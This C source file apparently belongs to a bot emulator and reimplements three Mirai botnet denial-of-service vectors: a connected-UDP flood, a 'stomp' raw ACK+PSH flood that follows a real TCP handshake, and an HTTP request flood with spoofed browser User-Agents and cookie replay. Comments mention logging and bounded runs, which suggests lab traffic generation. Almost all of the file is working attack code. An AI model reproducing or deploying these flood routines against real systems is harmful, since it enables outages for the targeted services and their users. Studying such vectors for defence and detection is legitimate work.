// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * xpro-bot's kernel-socket vectors (docs/mirai-vectors.md): udpplain (connected
 * UDP sockets), stomp (a real TCP handshake, then a raw ACK+PSH flood with
 * Mirai's swapped 16-bit sequence numbers) and http (a GET flood over real
 * TCP connections). Sockets are bound to the bot's own address. Every loop
 * ends at --duration or --count.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include "bot.h"
#include "inet6.h"
#include "log.h"

static int bind_bot(int fd, uint32_t addr, uint16_t port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = addr, .sin_port = htons(port) };

	return bind(fd, (struct sockaddr *)&sa, sizeof(sa)) ? -errno : 0;
}

/* udpplain's bind: IPv4, or the IPv6 name of addr */
static int bind_bot_af(const struct bot *b, int fd, uint32_t addr, uint16_t port)
{
	struct sockaddr_storage ss;
	socklen_t l = bot_sockaddr(b, addr, port, &ss);
	int one = 1;

	/* IPv6 has no AnyIP bind: the bot's name is routed local, bound freely */
	if (b->v6)
		setsockopt(fd, SOL_IP, IP_FREEBIND, &one, sizeof(one));
	return bind(fd, (struct sockaddr *)&ss, l) ? -errno : 0;
}

/* ---- udpplain --------------------------------------------------------------- */

int bot_run_udpplain(struct bot *b)
{
	uint32_t n = b->nbots * b->ntgt, i;
	struct vec_flow *f = calloc(n, sizeof(*f));
	int *fd = malloc(n * sizeof(int));
	uint8_t *buf = calloc(1, b->o.len + 1);
	uint64_t idx = 0;
	int err = 0;
	char a[INET6_ADDRSTRLEN];
	/* the datagram's IP + UDP headers, for the log's bytes */
	uint64_t hdr = b->v6 ? 48 : 28;

	if (!f || !fd || !buf) {
		err = -ENOMEM;
		goto out;
	}
	for (i = 0; i < n; i++)
		fd[i] = -1;
	for (uint32_t bi = 0; bi < b->nbots; bi++) {
		uint16_t sport = 0;

		for (uint32_t t = 0; t < b->ntgt; t++) {
			struct vec_flow *x = &f[bi * b->ntgt + t];
			struct sockaddr_storage to;
			socklen_t tl;
			uint16_t dport;
			int s;

			vec_flow_init(&b->o, x, bot_addr(b, bi), &b->tgt[t], b->seed, (uint64_t)bi * b->ntgt + t);
			if (t == 0) /* one source port per attack (per bot) */
				sport = b->o.sport == VEC_RANDOM16 ? (uint16_t)vec_rand_next(&x->rnd) : (uint16_t)b->o.sport;
			s = socket(b->v6 ? AF_INET6 : AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
			if (s < 0) {
				err = -errno;
				pr_warn("udpplain socket: %s\n", strerror(errno));
				goto out;
			}
			fd[bi * b->ntgt + t] = s;
			/* no SO_REUSEADDR: the second socket's bind fails, as in Mirai,
			 * and it gets an ephemeral port */
			if (bind_bot_af(b, s, x->local, sport) && bind_bot_af(b, s, x->local, 0)) {
				err = -errno;
				pr_warn("udpplain bind %s: %s\n", xp6_name(b->v6 ? AF_INET6 : AF_INET, x->local, a),
					strerror(errno));
				goto out;
			}
			dport = b->o.dport == VEC_RANDOM16 ? (uint16_t)vec_rand_next(&x->rnd) : (uint16_t)b->o.dport;
			tl = bot_sockaddr(b, x->host, dport, &to);
			if (connect(s, (struct sockaddr *)&to, tl)) {
				err = -errno;
				pr_warn("udpplain connect %s: %s\n", xp6_name(b->v6 ? AF_INET6 : AF_INET, x->host, a),
					strerror(errno));
				goto out;
			}
		}
	}
	while (b->sent < b->count) {
		uint64_t now = xp_mono_ns();
		struct vec_flow *x;
		ssize_t r;

		if (now >= b->end_ns)
			break;
		if (!bot_due(b, now, 1))
			continue;
		i = (uint32_t)(idx % n);
		x = &f[i];
		if (b->o.rand)
			vec_rand_fill(&x->rnd, buf, b->o.len);
		r = send(fd[i], buf, b->o.len, MSG_DONTWAIT | MSG_NOSIGNAL);
		if (r < 0) {
			/* an ICMP error of an earlier datagram, or a full buffer: this
			 * datagram did not go out; try it again */
			if (errno != ECONNREFUSED && errno != EAGAIN && errno != ENOBUFS && errno != EHOSTUNREACH)
				b->errors++;
			if (errno == EAGAIN || errno == ENOBUFS)
				bot_sleep_ns(20000);
			continue;
		}
		botlog_add(&b->log, xp_real_sec(), x->local, x->host, 1, hdr + (uint64_t)b->o.len);
		b->sent++;
		idx++;
	}
out:
	if (fd)
		for (i = 0; i < n; i++)
			if (fd[i] >= 0)
				close(fd[i]);
	free(fd);
	free(f);
	free(buf);
	return err;
}

/* ---- stomp ------------------------------------------------------------------- */

/* Connects flow x and reads the SYN-ACK on the raw socket rs, as Mirai does:
 * source = the target, TCP source port = the port connected to, SYN and ACK
 * set, longer than 40 bytes; a FIN or RST means retry, so do 10 s without
 * a match. Returns the connected socket or -errno. */
static int stomp_connect(struct bot *b, int rs, struct vec_flow *x)
{
	uint8_t pkt[1600];

	while (xp_mono_ns() < b->end_ns) {
		struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = x->host }, me;
		socklen_t sl = sizeof(me);
		uint16_t dport = b->o.dport == VEC_RANDOM16 ? (uint16_t)vec_rand_next(&x->rnd) : (uint16_t)b->o.dport;
		uint64_t give_up = xp_mono_ns() + 10000000000ull;
		int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), retry = 0;

		if (s < 0)
			return -errno;
		if (bind_bot(s, x->local, 0)) {
			int err = -errno;

			close(s);
			return err;
		}
		to.sin_port = htons(dport);
		if (connect(s, (struct sockaddr *)&to, sizeof(to)) && errno != EINPROGRESS) {
			close(s);
			bot_sleep_ns(100000000ull);
			continue;
		}
		getsockname(s, (struct sockaddr *)&me, &sl);
		while (!retry) {
			uint64_t now = xp_mono_ns();
			struct pollfd p = { .fd = rs, .events = POLLIN };
			ssize_t n;
			uint8_t *tcp;
			uint32_t sa, da;

			if (now >= give_up || now >= b->end_ns) {
				retry = 1;
				break;
			}
			if (poll(&p, 1, 100) <= 0)
				continue;
			n = recv(rs, pkt, sizeof(pkt), MSG_DONTWAIT);
			if (n < 40)
				continue;
			tcp = pkt + 20; /* Mirai assumes a 20-byte IP header */
			memcpy(&sa, pkt + 12, 4);
			memcpy(&da, pkt + 16, 4);
			if (sa != x->host || da != x->local || (tcp[0] << 8 | tcp[1]) != dport ||
			    (tcp[2] << 8 | tcp[3]) != ntohs(me.sin_port))
				continue;
			if (tcp[13] & 0x05) { /* FIN or RST */
				retry = 1;
				break;
			}
			if ((tcp[13] & 0x12) == 0x12 && n > 40) {
				x->srv_seq = (uint32_t)tcp[4] << 24 | tcp[5] << 16 | tcp[6] << 8 | tcp[7];
				x->my_ack = (uint32_t)tcp[8] << 24 | tcp[9] << 16 | tcp[10] << 8 | tcp[11];
				x->lport = (uint16_t)(tcp[2] << 8 | tcp[3]);
				x->rport = dport;
				return s; /* never closed: the connection stays established */
			}
		}
		close(s);
	}
	return -ETIMEDOUT;
}

int bot_run_stomp(struct bot *b)
{
	uint32_t n = b->nbots * b->ntgt, ok = 0;
	struct vec_flow *f = calloc(n, sizeof(*f)), **live = calloc(n, sizeof(*live));
	int *fd = malloc(n * sizeof(int)), rs, err = 0;
	struct raw_sock *s = malloc(sizeof(*s));
	size_t off = raw_inner_off(b->tunnel), len[RAW_BATCH];
	struct vec_rand orng;
	uint64_t idx = 0;
	char a[INET_ADDRSTRLEN];

	if (!f || !fd || !s || !live) {
		free(f), free(fd), free(s), free(live);
		return -ENOMEM;
	}
	s->fd = -1;
	for (uint32_t i = 0; i < n; i++)
		fd[i] = -1;
	rs = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_TCP);
	if (rs < 0) {
		err = -errno;
		pr_warn("stomp raw TCP socket: %s\n", strerror(errno));
		goto out;
	}
	for (uint32_t bi = 0; bi < b->nbots; bi++)
		for (uint32_t t = 0; t < b->ntgt; t++) {
			uint32_t i = bi * b->ntgt + t;
			struct vec_flow *x = &f[i];

			vec_flow_init(&b->o, x, bot_addr(b, bi), &b->tgt[t], b->seed, i);
			x->host = vec_target_host(&x->rnd, &b->tgt[t]); /* once per target */
			fd[i] = stomp_connect(b, rs, x);
			if (fd[i] < 0) {
				pr_warn("stomp %s -> %s: no handshake (%s)\n",
					inet_ntop(AF_INET, &x->local, a, sizeof(a)), inet_ntoa(*(struct in_addr *)&x->host),
					strerror(-fd[i]));
				b->errors++;
				continue;
			}
			live[ok++] = x;
		}
	close(rs);
	rs = -1;
	if (!ok) {
		err = -ENOTCONN;
		goto out;
	}
	err = raw_open(s, b->ifc.ifindex);
	if (err) {
		pr_warn("AF_PACKET socket on %s: %s\n", b->ifc.name, strerror(-err));
		goto out;
	}
	vec_rand_seed(&orng, b->seed, 0xFFFFFFFFFFull);
	while (b->sent < b->count) {
		uint64_t now = xp_mono_ns(), m;
		int serr;

		if (now >= b->end_ns)
			break;
		m = bot_due(b, now, RAW_BATCH);
		if (!m)
			continue;
		for (uint64_t j = 0; j < m; j++, idx++) {
			struct vec_flow *x = live[idx % ok];
			uint32_t bi = (uint32_t)(ntohl(x->local) - b->src_base);
			uint32_t p = bot_proxy_of(b, bi, idx / ok);

			err = bot_frame(b, x, x->local, p, &orng, s->buf[j], &len[j]);
			if (err)
				goto out;
		}
		serr = bot_send_logged(b, s, len, m, off);
		if (serr) {
			err = serr;
			break;
		}
	}
out:
	if (rs >= 0)
		close(rs);
	raw_close(s);
	for (uint32_t i = 0; i < n; i++)
		if (fd[i] >= 0)
			close(fd[i]);
	free(fd);
	free(f);
	free(live);
	free(s);
	return err;
}

/* ---- http -------------------------------------------------------------------- */

static const char *const user_agents[5] = {
	"Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36",
	"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36",
	"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.7 (KHTML, like Gecko) Version/9.1.2 Safari/601.7.7",
};

enum { H_INIT, H_CONNECTING, H_SEND, H_HEADER, H_BODY, H_RESTART, H_WAIT };

#define H_COOKIES 5
#define H_BUF 10240

struct hslot {
	int fd, state, keepalive, chunked, ua;
	uint32_t local, host;
	uint64_t since, wake;
	char domain[128], path[256];
	char cookies[H_COOKIES][128];
	int ncookies;
	char req[4096];
	size_t req_len, req_off;
	char buf[H_BUF + 1];
	size_t have;
	long long body_left; /* -1: until close; -2: chunked */
};

static void h_close(struct hslot *h, uint64_t now, uint64_t backoff)
{
	if (h->fd >= 0)
		close(h->fd);
	h->fd = -1;
	h->state = H_WAIT;
	h->wake = now + backoff;
}

static void h_build(const struct bot *b, struct hslot *h)
{
	int n;

	n = snprintf(h->req, sizeof(h->req),
		     "%s %s HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s\r\nConnection: keep-alive\r\n"
		     "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8\r\n"
		     "Accept-Language: en-US,en;q=0.8\r\n",
		     b->o.method, h->path, user_agents[h->ua], h->domain);
	if (b->o.postdata[0])
		n += snprintf(h->req + n, sizeof(h->req) - (size_t)n,
			      "Content-Type: application/x-www-form-urlencoded\r\ncontent-length: %zu\r\n",
			      strlen(b->o.postdata));
	if (h->ncookies) {
		n += snprintf(h->req + n, sizeof(h->req) - (size_t)n, "Cookie: ");
		for (int i = 0; i < h->ncookies; i++) /* "; " after every one, the last too */
			n += snprintf(h->req + n, sizeof(h->req) - (size_t)n, "%s; ", h->cookies[i]);
		n += snprintf(h->req + n, sizeof(h->req) - (size_t)n, "\r\n");
	}
	n += snprintf(h->req + n, sizeof(h->req) - (size_t)n, "\r\n%s", b->o.postdata);
	h->req_len = (size_t)n < sizeof(h->req) ? (size_t)n : sizeof(h->req) - 1;
	h->req_off = 0;
}

/* header line value (case-insensitive name), NULL if absent */
static const char *h_header(const char *hdrs, const char *name, char *out, size_t cap)
{
	size_t nl = strlen(name);

	for (const char *l = hdrs; l && *l; l = strstr(l, "\r\n") ? strstr(l, "\r\n") + 2 : NULL) {
		if (!strncasecmp(l, name, nl) && l[nl] == ':') {
			const char *v = l + nl + 1, *e = strstr(v, "\r\n");
			size_t len;

			while (*v == ' ')
				v++;
			len = e ? (size_t)(e - v) : strlen(v);
			if (len >= cap)
				len = cap - 1;
			memcpy(out, v, len);
			out[len] = 0;
			return out;
		}
		if (!strncmp(l, "\r\n", 2))
			break;
	}
	return NULL;
}

static void h_parse(const struct bot *b, struct hslot *h, size_t hdr_len)
{
	char v[512];
	const char *l;

	h->buf[hdr_len] = 0;
	/* Mirai: present means set, whatever the value */
	h->keepalive = h_header(h->buf, "Connection", v, sizeof(v)) != NULL;
	h->chunked = h_header(h->buf, "Transfer-Encoding", v, sizeof(v)) != NULL;
	/* Set-Cookie: name=value up to ';', at most 5, each < 128 chars; a
	 * stored cookie that starts with the new name counts as a duplicate */
	for (l = h->buf; (l = strstr(l, "\r\n")); l += 2) {
		if (strncasecmp(l + 2, "Set-Cookie:", 11))
			continue;
		{
			const char *c = l + 13, *e;
			size_t len, eq;
			int dup = 0;

			while (*c == ' ')
				c++;
			e = c + strcspn(c, ";\r");
			len = (size_t)(e - c);
			eq = strcspn(c, "=");
			if (len >= 128 || eq >= len || h->ncookies >= H_COOKIES)
				continue;
			for (int i = 0; i < h->ncookies; i++)
				if (!strncmp(h->cookies[i], c, eq))
					dup = 1;
			if (!dup) {
				memcpy(h->cookies[h->ncookies], c, len);
				h->cookies[h->ncookies++][len] = 0;
			}
		}
	}
	/* Location with an absolute URL: new Host and path, same address */
	if (h_header(h->buf, "Location", v, sizeof(v)) && (!strncmp(v, "http://", 7) || !strncmp(v, "https://", 8))) {
		char *d = strstr(v, "://") + 3, *p = strchr(d, '/');

		if (p) {
			snprintf(h->path, sizeof(h->path), "%s", p);
			*p = 0;
		} else {
			snprintf(h->path, sizeof(h->path), "/");
		}
		snprintf(h->domain, sizeof(h->domain), "%s", d);
	}
	h->body_left = -1;
	if (!strcmp(b->o.method, "GET") || !strcmp(b->o.method, "POST")) {
		if (h_header(h->buf, "Content-Length", v, sizeof(v)))
			h->body_left = atoll(v);
		else if (h->chunked)
			h->body_left = -2;
	} else {
		h->body_left = 0; /* other methods: drain what is there */
	}
}

int bot_run_http(struct bot *b)
{
	uint32_t ns = b->nbots * b->o.conns;
	struct hslot *h = calloc(ns, sizeof(*h));
	struct pollfd *pf = calloc(ns, sizeof(*pf));
	uint32_t *map = calloc(ns, sizeof(*map));
	int err = 0;

	if (!h || !pf || !map) {
		free(h), free(pf), free(map);
		return -ENOMEM;
	}
	for (uint32_t bi = 0; bi < b->nbots; bi++)
		for (uint32_t c = 0; c < b->o.conns; c++) {
			struct hslot *x = &h[bi * b->o.conns + c];
			struct vec_flow fl;

			/* slot c attacks target c mod T; host and User-Agent once per slot */
			vec_flow_init(&b->o, &fl, bot_addr(b, bi), &b->tgt[c % b->ntgt], b->seed, (uint64_t)bi * b->o.conns + c);
			x->fd = -1;
			x->local = fl.local;
			x->host = fl.host;
			x->ua = (int)(vec_rand_next(&fl.rnd) % 5);
			snprintf(x->domain, sizeof(x->domain), "%.127s", b->o.domain);
			snprintf(x->path, sizeof(x->path), "%s", b->o.path);
			x->state = H_INIT;
		}
	while (b->sent < b->count) {
		uint64_t now = xp_mono_ns(), wait;
		int np = 0, budget_ok;

		if (now >= b->end_ns)
			break;
		budget_ok = bot_budget(b, now, &wait) > b->sent;
		for (uint32_t i = 0; i < ns; i++) {
			struct hslot *x = &h[i];

			if (x->state == H_WAIT && now >= x->wake)
				x->state = H_INIT;
			if (x->state == H_INIT) {
				struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = x->host,
							  .sin_port = htons((uint16_t)b->o.dport) };

				x->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
				if (x->fd < 0 || bind_bot(x->fd, x->local, 0) ||
				    (connect(x->fd, (struct sockaddr *)&to, sizeof(to)) && errno != EINPROGRESS)) {
					h_close(x, now, 100000000ull);
					continue;
				}
				x->state = H_CONNECTING;
				x->since = now;
			}
			if (x->state == H_CONNECTING && now - x->since > 30000000000ull)
				h_close(x, now, 0); /* no connection within 30 s: retry */
			if (x->state == H_RESTART)
				x->state = x->keepalive ? H_SEND : (h_close(x, now, 0), H_WAIT);
			if (x->state == H_SEND && x->req_off == 0) {
				if (!budget_ok)
					continue; /* paced: wait for the budget */
				h_build(b, x);
			}
			if (x->fd < 0)
				continue;
			pf[np].fd = x->fd;
			pf[np].events = (x->state == H_CONNECTING || x->state == H_SEND) ? POLLOUT : POLLIN;
			pf[np].revents = 0;
			map[np++] = i;
		}
		if (!np) {
			bot_sleep_ns(wait ? wait : 1000000);
			continue;
		}
		if (poll(pf, (nfds_t)np, 20) <= 0)
			continue;
		now = xp_mono_ns();
		for (int k = 0; k < np && b->sent < b->count; k++) {
			struct hslot *x = &h[map[k]];
			ssize_t r;

			if (!pf[k].revents)
				continue;
			if (x->state == H_CONNECTING) {
				int e = 0;
				socklen_t el = sizeof(e);

				getsockopt(x->fd, SOL_SOCKET, SO_ERROR, &e, &el);
				if (e) {
					h_close(x, now, 100000000ull);
					continue;
				}
				x->state = H_SEND;
				x->req_off = 0;
				continue;
			}
			if (x->state == H_SEND) {
				if (x->req_off == 0 && x->req_len == 0)
					continue;
				r = send(x->fd, x->req + x->req_off, x->req_len - x->req_off, MSG_NOSIGNAL | MSG_DONTWAIT);
				if (r < 0) {
					if (errno != EAGAIN)
						h_close(x, now, 0);
					continue;
				}
				x->req_off += (size_t)r;
				if (x->req_off == x->req_len) {
					/* one request: logged as one packet of IPv4 + TCP + request */
					botlog_add(&b->log, xp_real_sec(), x->local, x->host, 1, 40 + x->req_len);
					b->sent++;
					x->state = H_HEADER;
					x->have = 0;
					x->req_off = 0;
					x->req_len = 0;
				}
				continue;
			}
			r = recv(x->fd, x->buf + x->have, H_BUF - x->have, MSG_DONTWAIT);
			if (r <= 0) {
				if (r < 0 && errno == EAGAIN)
					continue;
				h_close(x, now, 0); /* peer closed or error: reconnect */
				continue;
			}
			x->have += (size_t)r;
			x->buf[x->have] = 0;
			if (x->state == H_HEADER) {
				char *e = strstr(x->buf, "\r\n\r\n");
				size_t hl, rest;

				if (!e) {
					if (x->have >= H_BUF)
						h_close(x, now, 0);
					continue;
				}
				hl = (size_t)(e - x->buf) + 4;
				rest = x->have - hl;
				h_parse(b, x, hl - 2);
				x->state = H_BODY;
				if (x->body_left >= 0) {
					x->body_left -= (long long)rest;
					x->have = 0;
					if (x->body_left <= 0)
						x->state = H_RESTART;
				} else {
					memmove(x->buf, x->buf + hl, rest);
					x->have = rest;
					x->buf[x->have] = 0;
				}
				if (x->state != H_BODY || x->body_left != -2)
					continue;
			}
			if (x->state == H_BODY) {
				if (x->body_left >= 0) {
					x->body_left -= r;
					x->have = 0;
					if (x->body_left <= 0)
						x->state = H_RESTART;
				} else if (x->body_left == -2) {
					/* chunked: done at the last chunk */
					if (strstr(x->buf, "\r\n0\r\n\r\n") || !strncmp(x->buf, "0\r\n\r\n", 5))
						x->state = H_RESTART;
					else if (x->have > 16) { /* keep a tail for the terminator */
						memmove(x->buf, x->buf + x->have - 16, 16);
						x->have = 16;
					}
				} else {
					x->have = 0; /* until the peer closes */
				}
			}
		}
	}
	for (uint32_t i = 0; i < ns; i++)
		if (h[i].fd >= 0)
			close(h[i].fd);
	free(h);
	free(pf);
	free(map);
	return err;
}
